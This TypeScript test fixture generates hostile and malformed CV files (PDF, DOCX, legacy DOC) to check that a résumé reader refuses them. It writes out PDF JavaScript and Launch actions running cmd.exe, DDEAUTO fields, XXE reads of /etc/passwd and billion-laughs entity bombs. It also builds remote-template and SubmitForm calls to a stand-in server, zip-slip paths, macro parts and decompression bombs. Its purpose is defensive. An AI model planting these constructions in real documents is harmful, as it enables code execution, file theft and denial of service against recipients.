/** Generates malicious and fake CV files at test time; none is stored in the repository. */
import type { CvRefusalReason } from '@vitrine/domain/sources/cv-reading'
import { strToU8, zipSync } from 'fflate'
import { deflateSync } from 'node:zlib'
import { makeOle } from './make-ole.ts'

export type HostileFile = {
  title: string
  fileName: string
  bytes: Uint8Array
  /** Accepted results; `read` if the file is harmless and must only be survived. */
  expected: readonly (CvRefusalReason | 'read')[]
}

const text = (value: string) => Buffer.from(value, 'latin1')
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts))

/** A PDF from numbered objects, the catalog first, with a valid xref table. */
function pdf(objects: string[], trailer = ''): Uint8Array {
  let out = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n'
  const offsets: number[] = []
  objects.forEach((object, i) => {
    offsets.push(out.length)
    out += `${i + 1} 0 obj\n${object}\nendobj\n`
  })
  const start = out.length
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`
  return new Uint8Array(
    text(
      `${out}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  )
}

const stream = (content: string, dictionary = '') =>
  `<< /Length ${content.length} ${dictionary} >>\nstream\n${content}\nendstream`
const LINES = Array.from(
  { length: 12 },
  (_, i) =>
    `BT /F1 11 Tf 50 ${760 - i * 20} Td (Jane Doe works here as an engineer since 2019, line ${i}) Tj ET`,
).join('\n')
const honest = (extraCatalog = '', extra: string[] = [], content = LINES, page = '') => [
  `<< /Type /Catalog /Pages 2 0 R ${extraCatalog} >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
  stream(content),
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ...extra,
]
const packed = (object: string, harm = (data: Buffer) => data) => {
  const body = `6 0 ${object}`
  const data = harm(deflateSync(Buffer.from(body))).toString('latin1')
  return stream(data, `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`)
}
const hex = (content: string) => `${Buffer.from(content, 'latin1').toString('hex')}>`
const deflate = (content: string) => deflateSync(Buffer.from(content, 'latin1')).toString('latin1')
/** Content of an object stream for each filter. */
const FILTERED: Readonly<Record<string, (content: string) => string>> = {
  none: (content) => content,
  '/FlateDecode': deflate,
  '[/FlateDecode]': deflate,
  '/#46lateDecode': deflate,
  '/ASCIIHexDecode': hex,
  '/AHx': hex,
  '[/ASCIIHexDecode /FlateDecode]': (content) => hex(deflate(content)),
  '[/FlateDecode /FlateDecode]': (content) => deflate(deflate(content)),
  '/RunLengthDecode': (content) => `${String.fromCharCode(content.length - 1)}${content}\u0080`,
  '/ASCII85Decode': () => '0H_J\\W@~>',
  '/LZWDecode': () => '\u0080\u000b`P',
  '9 0 R': deflate,
  '/FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>': deflate,
}
const deflated = (content: string) =>
  stream(deflateSync(Buffer.from(content, 'latin1')).toString('latin1'), '/Filter /FlateDecode')
const withAttachment = (file: string, name = 'cv.xml') =>
  pdf(
    honest(
      `/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (${name}) /EF << /F 6 0 R >> >>] >> >>`,
      [file],
    ),
  )
const withReference = (objects: string[]) =>
  pdf(
    honest(
      '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (cv.xml) /EF 7 0 R >>] >> >>',
      objects,
    ),
  )
/** Spaces, and a wrong checksum. */
const brokenObjects = (bytes: number) =>
  packed(' '.repeat(bytes), (data) => data.fill(0, data.length - 4))

const CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const document = (body: string) =>
  `<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`
const paragraph = (content: string) => `<w:p><w:r><w:t>${content}</w:t></w:r></w:p>`
const PLAIN = document(
  paragraph('Jane Doe') +
    paragraph('Engineer at Example Ltd since 2019') +
    paragraph('jane@example.com'),
)
const RELS = (relations: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`
const external = (type: string, target: string) =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`

function docx(parts: Record<string, string | Uint8Array>): Uint8Array {
  const all: Record<string, string | Uint8Array> = {
    '[Content_Types].xml': CONTENT_TYPES,
    'word/document.xml': PLAIN,
    ...parts,
  }
  return zipSync(
    Object.fromEntries(
      Object.entries(all).map(([name, part]) => [
        name,
        typeof part === 'string' ? strToU8(part) : part,
      ]),
    ),
  )
}

const utf16 = (part: string) => Buffer.from(part, 'utf16le')

/** Changes bytes of the central directory, which unzip tools trust. */
function patched(bytes: Uint8Array, change: (view: DataView, entry: number) => void): Uint8Array {
  const copy = bytes.slice()
  const view = new DataView(copy.buffer)
  for (let at = 0; at + 46 < copy.length; at++)
    if (view.getUint32(at, true) === 0x02014b50) change(view, at)
  return copy
}

export function makeHostileFiles(): HostileFile[] {
  return [...wrongFiles(), ...pdfFiles(), ...docxFiles(), ...docFiles()]
}

function wrongFiles(): HostileFile[] {
  const file = (
    title: string,
    fileName: string,
    bytes: Uint8Array,
    ...expected: HostileFile['expected']
  ) => ({ title, fileName, bytes, expected })
  const good = pdf(honest())
  return [
    file('nothing at all', 'cv.pdf', new Uint8Array(), 'empty'),
    file('nothing, named as a document', 'cv.docx', new Uint8Array(), 'empty'),
    file('zeros only', 'cv.pdf', new Uint8Array(5000), 'damaged', 'wrong-type'),
    file('plain text named as a PDF', 'cv.pdf', text('Jane Doe\nEngineer'), 'wrong-type'),
    file(
      'a web page named as a DOC',
      'cv.doc',
      text('<html><script>alert(1)</script></html>'),
      'wrong-type',
    ),
    file('RTF named as a DOC', 'cv.doc', text('{\\rtf1\\ansi{\\object\\objdata 0105}}'), 'unsafe'),
    file(
      'a program named as a PDF',
      'cv.pdf',
      join(text('MZ\u0090\u0000'), new Uint8Array(600)),
      'wrong-type',
    ),
    file('a Linux program', 'cv.pdf', join(text('\u007fELF'), new Uint8Array(600)), 'wrong-type'),
    file(
      'a picture named as a PDF',
      'cv.pdf',
      join(text('\u0089PNG\r\n\u001a\n'), new Uint8Array(600)),
      'wrong-type',
    ),
    file('an SVG picture', 'cv.svg', text('<svg onload="alert(1)"/>'), 'wrong-type'),
    file('a PDF named as a document', 'cv.docx', good, 'wrong-type'),
    file('a PDF without an extension', 'cv', good, 'wrong-type'),
    file('a PDF with a double extension', 'cv.pdf.exe', good, 'wrong-type'),
    file('a document named as a PDF', 'cv.pdf', docx({}), 'wrong-type'),
    file('a document named as an old one', 'cv.doc', docx({}), 'wrong-type'),
    file('11 MB of a PDF', 'cv.pdf', join(good, new Uint8Array(11 * 1024 * 1024)), 'too-large'),
    file('a zip of something else', 'cv.zip', zipSync({ 'a.txt': strToU8('a') }), 'wrong-type'),
    file(
      'a spreadsheet named as a document',
      'cv.docx',
      zipSync({
        '[Content_Types].xml': strToU8(CONTENT_TYPES),
        'xl/workbook.xml': strToU8('<a/>'),
      }),
      'wrong-type',
    ),
    file('a name that climbs out of its folder', '../../etc/passwd', good, 'wrong-type'),
    file('a name with control characters', 'cv\u0000.pdf\u202efdp.exe', good, 'wrong-type'),
    file(
      'random bytes',
      'cv.pdf',
      Uint8Array.from({ length: 4000 }, (_, i) => (i * 7919 + ((i * i) % 251)) % 256),
      'wrong-type',
      'damaged',
    ),
    file(
      'a gzip file',
      'cv.docx',
      join(Uint8Array.from([0x1f, 0x8b, 8, 0]), new Uint8Array(200)),
      'wrong-type',
    ),
  ]
}

// oxlint-disable-next-line max-lines-per-function -- one list of test files
function pdfFiles(): HostileFile[] {
  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({
    title: `PDF: ${title}`,
    fileName: 'cv.pdf',
    bytes,
    expected,
  })
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const good = pdf(honest())
  const loop = honest()
  loop[1] = '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>'
  const deepArray = `${'['.repeat(20_000)}${']'.repeat(20_000)}`
  const manyPages = honest()
  manyPages[1] = `<< /Type /Pages /Kids [${'3 0 R '.repeat(50_000)}] /Count 50000 >>`
  return [
    file('JavaScript when it opens', pdf(honest(`/OpenAction ${script}`)), 'unsafe'),
    file(
      'JavaScript in its name tree',
      pdf(honest(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)),
      'unsafe',
    ),
    file(
      'JavaScript under an escaped name',
      pdf(honest('/OpenAction << /S /J#61vaScript /#4a#53 (1) >>')),
      'unsafe',
    ),
    file('JavaScript on a page', pdf(honest('', [], LINES, `/AA << /O ${script} >>`)), 'unsafe'),
    file(
      'JavaScript in a packed object',
      pdf(honest('/OpenAction 6 0 R', [packed(script)])),
      'unsafe',
    ),
    ...Object.entries(FILTERED).map(([filter, content]) =>
      file(
        `JavaScript in a packed object, ${filter}`,
        pdf(
          honest('/OpenAction 6 0 R', [
            stream(
              content(`6 0 ${script}`),
              `/Type /ObjStm /N 1 /First 4 ${filter === 'none' ? '' : `/Filter ${filter}`}`,
            ),
          ]),
        ),
        'unsafe',
      ),
    ),
    file('starts a program', pdf(honest('/OpenAction << /S /Launch /F (cmd.exe) >>')), 'unsafe'),
    file(
      'starts a program from a link',
      pdf(
        honest(
          '',
          [],
          LINES,
          '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (sh) >> >>]',
        ),
      ),
      'unsafe',
    ),
    file(
      'carries an attachment',
      pdf(
        honest(
          '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 6 0 R >> >>] >> >>',
          [stream('MZ', '/Type /EmbeddedFile')],
        ),
      ),
      'unsafe',
    ),
    file('carries a resume in XML', withAttachment(stream('<cv/>', '/Type /EmbeddedFile')), 'read'),
    file(
      'carries a resume in JSON, packed',
      withAttachment(deflated('{"basics":{"name":"Jane Doe"}}')),
      'read',
    ),
    file(
      'carries a resume by reference',
      withReference([stream('<cv/>'), '<< /F 6 0 R >>']),
      'read',
    ),
    file(
      'carries a program by reference',
      withReference([stream('MZ'), '<< /F 6 0 R >>']),
      'unsafe',
    ),
    file(
      'carries a program by reference beside a resume',
      withReference([stream('<cv/>'), '<< /F 6 0 R /UF 8 0 R >>', stream('MZ')]),
      'unsafe',
    ),
    file('carries nothing by reference', withReference([stream('<cv/>')]), 'unsafe'),
    file('carries a program named as data', withAttachment(stream('MZ\u0090', '')), 'unsafe'),
    file('carries a packed program named as data', withAttachment(deflated('MZ\u0090')), 'unsafe'),
    file('carries data named as a program', withAttachment(stream('<cv/>'), 'cv.exe'), 'unsafe'),
    file(
      'carries a page with a script named as data',
      withAttachment(stream('<html xmlns="x"><script>alert(1)</script></html>')),
      'unsafe',
    ),
    file(
      'carries a document for Word named as data',
      withAttachment(stream('<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>')),
      'unsafe',
    ),
    file(
      'carries XML with entities',
      withAttachment(stream('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')),
      'unsafe',
    ),
    file('carries half a JSON', withAttachment(stream('{"basics":')), 'unsafe'),
    file('carries another PDF', withAttachment(stream('%PDF-1.7 and more')), 'unsafe'),
    file(
      'carries data packed in an unusual way',
      withAttachment(stream('3C63762F3E>', '/Filter /ASCIIHexDecode')),
      'unsafe',
    ),
    file(
      'carries data that unpacks to 100 MB',
      withAttachment(deflated(' '.repeat(100 * 1024 * 1024))),
      'unsafe',
    ),
    file(
      'carries what cannot be found',
      pdf(
        honest(
          '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /#45F << /F 99 0 R >> >>] >> >>',
        ),
      ),
      'unsafe',
    ),
    file(
      'carries a program beside a resume',
      pdf(
        honest(
          '/Names << /EmbeddedFiles << /Names [(a) << /F (a.xml) /EF << /F 6 0 R /DOS 7 0 R >> >>] >> >>',
          [stream('<cv/>'), stream('MZ')],
        ),
      ),
      'unsafe',
    ),
    file(
      'carries a program beside a resume, spaced out',
      pdf(
        honest(
          `/Names << /EmbeddedFiles << /Names [(a) << /F (a.xml) /EF << /F 6 0 R /DOS 7${' '.repeat(30)}0 R >> >>] >> >>`,
          [stream('<cv/>'), stream('MZ')],
        ),
      ),
      'unsafe',
    ),
    file(
      'carries a program in a note on the page',
      pdf(
        honest(
          '',
          [stream('MZ', '/Type /EmbeddedFile')],
          LINES,
          '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.xml) /EF << /F 6 0 R >> >> >>]',
        ),
      ),
      'unsafe',
    ),
    file(
      'sends a form',
      pdf(honest('/OpenAction << /S /SubmitForm /F (http://198.51.100.1/) >>')),
      'unsafe',
    ),
    file(
      'loads data from elsewhere',
      pdf(honest('/OpenAction << /S /ImportData /F (x.fdf) >>')),
      'unsafe',
    ),
    file(
      'has an XFA form',
      pdf(honest('/AcroForm << /XFA 6 0 R >>', [stream('<xdp/>')])),
      'unsafe',
    ),
    file(
      'plays rich media',
      pdf(honest('', [], LINES, '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')),
      'unsafe',
    ),
    file(
      'opens another document inside',
      pdf(honest('/OpenAction << /S /GoToE /T << /R /C >> >>')),
      'unsafe',
    ),
    file(
      'is encrypted',
      pdf(
        honest(),
        '/Encrypt << /Filter /Standard /V 1 /R 2 /O (01234567890123456789012345678901) /U (01234567890123456789012345678901) /P -4 >>',
      ),
      'encrypted',
    ),
    file('is cut in half', good.slice(0, Math.floor(good.length / 2)), 'damaged'),
    file('is cut after its first line', good.slice(0, 9), 'damaged'),
    file('has blank lines in front', join(text('\r\n\r\n'), good), 'read'),
    file(
      'has header lines in front',
      join(text('Content-Type: application/pdf\r\nX-Id: 7\r\n\r\n'), good),
      'read',
    ),
    file('has a page in front', join(text('<html>\n'), good), 'unsafe', 'wrong-type'),
    file('has junk in front', join(text('GIF89a................'), good), 'unsafe', 'wrong-type'),
    file('is a zip file as well', join(good, docx({})), 'unsafe'),
    file(
      'has no pages',
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
      'damaged',
      'image-only',
    ),
    file(
      'has a page tree that bites its tail',
      pdf(loop),
      'damaged',
      'read',
      'too-slow',
      'image-only',
    ),
    file('claims fifty thousand pages', pdf(manyPages), 'read', 'too-slow', 'damaged'),
    file(
      'nests arrays twenty thousand deep',
      pdf(honest('/Extra 6 0 R', [deepArray])),
      'read',
      'damaged',
      'too-slow',
    ),
    file(
      'unpacks its page to 200 MB',
      pdf(
        honest('', [], '').map((object, i) =>
          i === 3
            ? stream(
                deflateSync(Buffer.alloc(200 * 1024 * 1024, 32)).toString('latin1'),
                '/Filter /FlateDecode',
              )
            : object,
        ),
      ),
      'too-slow',
      'image-only',
      'damaged',
    ),
    file(
      'draws itself for ever',
      pdf(
        honest(
          '',
          [
            stream(
              '/X0 Do',
              '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 6 0 R >> >>',
            ),
          ],
          '/X0 Do',
          '',
        ).map((o, i) =>
          i === 2 ? o.replace('/Resources <<', '/Resources << /XObject << /X0 6 0 R >>') : o,
        ),
      ),
      'damaged',
      'image-only',
      'too-slow',
    ),
    file(
      'writes a million letters',
      pdf(honest('', [], `BT /F1 1 Tf (${'A'.repeat(1_000_000)}) Tj ET`)),
      'read',
      'too-slow',
      'damaged',
    ),
    file(
      'packs objects that unpack to 96 MB and then break off',
      pdf(
        honest(
          '',
          Array.from({ length: 24 }, () => brokenObjects(4 * 1024 * 1024)),
        ),
      ),
      'too-large',
    ),
    file(
      'hides JavaScript in packed objects that break off after it',
      pdf(honest('/OpenAction 6 0 R', [packed(script, (data) => data.fill(0, data.length - 4))])),
      'unsafe',
    ),
    file(
      'is one picture',
      pdf(honest('', [], 'q 612 0 0 792 0 0 cm BI /W 1 /H 1 /BPC 8 /CS /G ID \u0000 EI Q')),
      'image-only',
    ),
    file(
      'has a wrong table of objects',
      new Uint8Array(
        text(
          Buffer.from(good)
            .toString('latin1')
            .replace(/\d{10} 00000 n/g, '0000000001 00000 n'),
        ),
      ),
      'read',
      'damaged',
    ),
    file(
      'links to javascript:',
      pdf(
        honest(
          '',
          [],
          LINES,
          '/Annots [<< /Type /Annot /Subtype /Link /Rect [40 740 600 790] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]',
        ),
      ),
      'read',
    ),
    file(
      'is honest, with a link',
      pdf(
        honest(
          '',
          [],
          LINES,
          '/Annots [<< /Type /Annot /Subtype /Link /Rect [40 740 600 790] /A << /S /URI /URI (https://example.com) >> >>]',
        ),
      ),
      'read',
    ),
    file('is honest, and opens at a page', pdf(honest('/OpenAction [3 0 R /Fit]')), 'read'),
  ]
}

// oxlint-disable-next-line max-lines-per-function -- one list of test files
function docxFiles(): HostileFile[] {
  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({
    title: `DOCX: ${title}`,
    fileName: 'cv.docx',
    bytes,
    expected,
  })
  const many = Object.fromEntries(
    Array.from({ length: 2100 }, (_, i) => [`word/media/${i}.xml`, '<a/>']),
  )
  const laughs =
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
  return [
    file('macros', docx({ 'word/vbaProject.bin': new Uint8Array(64) }), 'unsafe'),
    file(
      'macros by content type',
      docx({
        '[Content_Types].xml': CONTENT_TYPES.replace(
          'application/xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
      }),
      'unsafe',
    ),
    file(
      'macros in a part under another name',
      docx({
        '[Content_Types].xml': CONTENT_TYPES.replace(
          '</Types>',
          '<Override PartName="/word/notes.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
        'word/notes.xml': new Uint8Array(64).fill(32),
      }),
      'unsafe',
    ),
    file(
      'macros in a part under another name, its kind in escapes',
      docx({
        '[Content_Types].xml': CONTENT_TYPES.replace(
          '</Types>',
          '<Override PartName="/word/notes.dat" ContentType="application/vnd.ms-office.vba&#x50;roject"/></Types>',
        ),
        'word/notes.dat': new Uint8Array(64),
      }),
      'unsafe',
    ),
    file(
      'macros that only a relation names',
      docx({
        'word/_rels/document.xml.rels': RELS(
          '<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.dat"/>',
        ),
        'word/notes.dat': new Uint8Array(64),
      }),
      'unsafe',
    ),
    file('an ActiveX control', docx({ 'word/activeX/activeX1.bin': new Uint8Array(64) }), 'unsafe'),
    file('a chart', docx({ 'word/embeddings/Worksheet.xlsx': new Uint8Array(64) }), 'read'),
    file(
      'an embedded object named as a workbook elsewhere',
      docx({ 'other/embeddings/Worksheet.xlsx': new Uint8Array(64) }),
      'unsafe',
    ),
    file(
      'an embedded object',
      docx({ 'word/embeddings/oleObject1.bin': new Uint8Array(64) }),
      'unsafe',
    ),
    file(
      'a template from elsewhere',
      docx({
        'word/_rels/settings.xml.rels': RELS(
          external('attachedTemplate', 'http://198.51.100.1/t.dotm'),
        ),
      }),
      'unsafe',
    ),
    ...[
      'file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
      'file:///opt/templates/CV%20modern.dotx',
      'file://localhost/Applications/Office/CV.dotx',
    ].map((template) =>
      file(
        `a template of the writer’s own machine, ${template}`,
        docx({
          'word/_rels/settings.xml.rels': RELS(external('attachedTemplate', template)),
        }),
        'read',
      ),
    ),
    ...[
      'file://198.51.100.1/share/t.dotm',
      'file:////198.51.100.1/share/t.dotm',
      'file:///\\\\198.51.100.1\\share\\t.dotm',
      'file:%5C%5C198.51.100.1%5Ct.dotm',
      'file:///&#92;&#92;198.51.100.1&#92;t.dotm',
      '\\\\198.51.100.1\\share\\t.dotm',
      'https://198.51.100.1/t.dotm',
    ].map((template) =>
      file(
        `a template on a server, ${template}`,
        docx({
          'word/_rels/settings.xml.rels': RELS(external('attachedTemplate', template)),
        }),
        'unsafe',
      ),
    ),
    file(
      'an object from elsewhere',
      docx({
        'word/_rels/document.xml.rels': RELS(external('oleObject', 'mhtml:http://198.51.100.1/x')),
      }),
      'unsafe',
    ),
    file(
      'a frame from elsewhere',
      docx({ 'word/_rels/webSettings.xml.rels': RELS(external('frame', 'http://198.51.100.1/')) }),
      'unsafe',
    ),
    file(
      'DDE in a field',
      docx({
        'word/document.xml': document(
          '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
        ),
      }),
      'unsafe',
    ),
    file(
      'DDE cut into runs',
      docx({
        'word/document.xml': document(
          '<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd </w:instrText></w:r></w:p>',
        ),
      }),
      'unsafe',
    ),
    file(
      'DDE in a simple field',
      docx({ 'word/document.xml': document('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>') }),
      'unsafe',
    ),
    file('a document type', docx({ 'word/document.xml': `<!DOCTYPE a>${PLAIN}` }), 'unsafe'),
    file(
      'an external entity',
      docx({
        'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${PLAIN}`,
      }),
      'unsafe',
    ),
    file(
      'a document type in UTF-16',
      docx({ 'word/document.xml': utf16(`\ufeff<!DOCTYPE a>${PLAIN}`) }),
      'unsafe',
    ),
    file(
      'a document type in UTF-16, the high bytes first',
      docx({ 'word/document.xml': utf16(`<!DOCTYPE a>${PLAIN}`).swap16() }),
      'unsafe',
    ),
    file(
      'a symbolic link among its parts',
      patched(docx({ 'word/media/me.png': '/etc/passwd' }), (view, at) =>
        view.setUint32(at + 38, 0xa1ff0000, true),
      ),
      'unsafe',
    ),
    file(
      'field codes that begin and never end',
      docx({ 'word/document.xml': document('<w:instrText'.repeat(300_000)) }),
      'damaged',
      'image-only',
    ),
    file(
      'relations that begin and never end',
      docx({ 'word/_rels/document.xml.rels': RELS('<Relationship '.repeat(250_000)) }),
      'read',
    ),
    file('a billion laughs', docx({ 'docProps/core.xml': laughs }), 'unsafe'),
    file('more than 2,000 parts', docx(many), 'too-large'),
    file(
      '60 MB of spaces',
      docx({ 'word/document.xml': new Uint8Array(60 * 1024 * 1024).fill(32) }),
      'too-large',
    ),
    file(
      '40 MB of spaces',
      docx({
        'word/document.xml': join(
          strToU8('<w:document><w:body>'),
          new Uint8Array(40 * 1024 * 1024).fill(32),
        ),
      }),
      'damaged',
      'too-slow',
      'image-only',
    ),
    file(
      'a part that lies about its size',
      patched(
        docx({ 'word/document.xml': new Uint8Array(20 * 1024 * 1024).fill(65) }),
        (view, at) => view.setUint32(at + 24, 100, true),
      ),
      'too-large',
      'damaged',
    ),
    file(
      'parts that share their bytes',
      patched(docx({ 'word/a.xml': '<a/>', 'word/b.xml': '<a/>' }), (view, at) =>
        view.setUint32(at + 42, 0, true),
      ),
      'unsafe',
      'damaged',
    ),
    file(
      'encrypted parts',
      patched(docx({}), (view, at) => view.setUint16(at + 8, 1, true)),
      'encrypted',
    ),
    file(
      'an unknown packing method',
      patched(docx({}), (view, at) => view.setUint16(at + 10, 99, true)),
      'damaged',
    ),
    file('a part that climbs out', docx({ '../../etc/cron.d/x': 'x' }), 'unsafe'),
    file('a part with an absolute path', docx({ '/etc/passwd': 'x' }), 'unsafe'),
    file(
      '100,000 nested elements',
      docx({ 'word/document.xml': document(`<w:p>${'<w:sdt>'.repeat(100_000)}`) }),
      'unsafe',
      'damaged',
    ),
    file(
      'nested tables, 5,000 deep',
      docx({ 'word/document.xml': document('<w:tbl><w:tr><w:tc>'.repeat(5000)) }),
      'unsafe',
      'damaged',
    ),
    file(
      'a million paragraphs',
      docx({ 'word/document.xml': document('<w:p/>'.repeat(1_000_000)) }),
      'unsafe',
      'damaged',
      'image-only',
      'too-slow',
    ),
    file(
      'a style that inherits from itself',
      docx({
        'word/styles.xml': `<w:styles ${W}><w:style w:type="paragraph" w:default="1" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
      }),
      'read',
    ),
    file('no body', docx({ 'word/document.xml': '<w:document/>' }), 'damaged'),
    file('no text', docx({ 'word/document.xml': document('<w:p/>') }), 'image-only'),
    file('its end is missing', docx({}).slice(0, 300), 'damaged'),
    file('its middle is missing', join(docx({}).slice(0, 60), docx({}).slice(200)), 'damaged'),
    file(
      'a link to javascript:',
      docx({
        'word/_rels/document.xml.rels': RELS(external('hyperlink', 'javascript:alert(1)')),
        'word/document.xml': document(
          `<w:p><w:hyperlink r:id="r1"><w:r><w:t>Jane Doe, engineer since 2019</w:t></w:r></w:hyperlink></w:p>`,
        ),
      }),
      'unsafe',
    ),
    ...[
      ['hyperlink', 'file://192.0.2.1/share/a.txt'],
      ['hyperlink', '&#92;&#92;192.0.2.1&#92;share&#92;a.txt'],
      ['hyperlink', 'http:\\\\192.0.2.1\\share'],
      ['hyperlink', 'ms-example:nothing'],
      ['hyperlink', 'a.exe'],
      ['image', 'file://192.0.2.1/share/a.png'],
      ['video', 'https://example.com/a'],
      ['footer', 'https://example.com/a'],
      ['unknown', 'https://example.com/a'],
      ['image', 'https://example.com/?a>b'],
    ].map(([type = '', target = '']) =>
      file(
        `a relation of type ${type} to ${target}`,
        docx({ 'word/_rels/document.xml.rels': RELS(external(type, target)) }),
        'unsafe',
      ),
    ),
    ...[
      'https://example.com/?a=1&amp;b=2',
      'HTTP://example.com',
      'mailto:a@example.com',
      'linkedin.com/in/jane-doe',
      'file:///D:/cover-letter.docx',
      'tel:+1',
    ].map((target) =>
      file(
        `a link to ${target}`,
        docx({ 'word/_rels/document.xml.rels': RELS(external('hyperlink', target)) }),
        'read',
      ),
    ),
    file(
      'a linked picture',
      docx({
        'word/_rels/document.xml.rels': RELS(external('image', 'https://example.com/me.png')),
      }),
      'unsafe',
    ),
  ]
}

function docFiles(): HostileFile[] {
  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({
    title: `DOC: ${title}`,
    fileName: 'cv.doc',
    bytes,
    expected,
  })
  const word = (flags = 0) => {
    const header = new Uint8Array(4096)
    new DataView(header.buffer).setUint16(0, 0xa5ec, true)
    new DataView(header.buffer).setUint16(10, flags, true)
    return header
  }
  const ring = (sector: number) => sector
  return [
    file(
      'an encrypted new document',
      makeOle({ EncryptionInfo: new Uint8Array(64), EncryptedPackage: new Uint8Array(5000) }),
      'encrypted',
    ),
    {
      ...file(
        'an encrypted new document under its own name',
        makeOle({ EncryptionInfo: new Uint8Array(64), EncryptedPackage: new Uint8Array(5000) }),
        'encrypted',
      ),
      fileName: 'cv.docx',
    },
    file('an encrypted old document', makeOle({ WordDocument: word(0x0100) }), 'encrypted'),
    file('macros', makeOle({ WordDocument: word(), Macros: new Uint8Array(64) }), 'unsafe'),
    file(
      'a VBA project',
      makeOle({ WordDocument: word(), _VBA_PROJECT: new Uint8Array(64) }),
      'unsafe',
    ),
    file('a spreadsheet', makeOle({ Workbook: new Uint8Array(5000) }), 'wrong-type'),
    file(
      'an installer',
      makeOle({ '\u4840\u3b3f\u43f2\u4438\u45b1': new Uint8Array(64) }),
      'wrong-type',
    ),
    file(
      'a chain of sectors in a circle',
      makeOle({ WordDocument: word() }, { chain: ring }),
      'damaged',
    ),
    file(
      'a directory in a circle',
      makeOle({ WordDocument: word() }, { directoryRing: true }),
      'damaged',
    ),
    file('an impossible sector size', makeOle({ WordDocument: word() }, { shift: 31 }), 'damaged'),
    file('only its header', makeOle({ WordDocument: word() }).slice(0, 512), 'damaged'),
    file('its end is missing', makeOle({ WordDocument: word() }).slice(0, 2000), 'damaged'),
    file('no table of text', makeOle({ WordDocument: word() }), 'damaged', 'image-only'),
    file(
      'DDE in a field',
      makeOle({ WordDocument: join(word(), text('\u0013 DDEAUTO cmd.exe \u0015')) }),
      'unsafe',
    ),
  ]
}
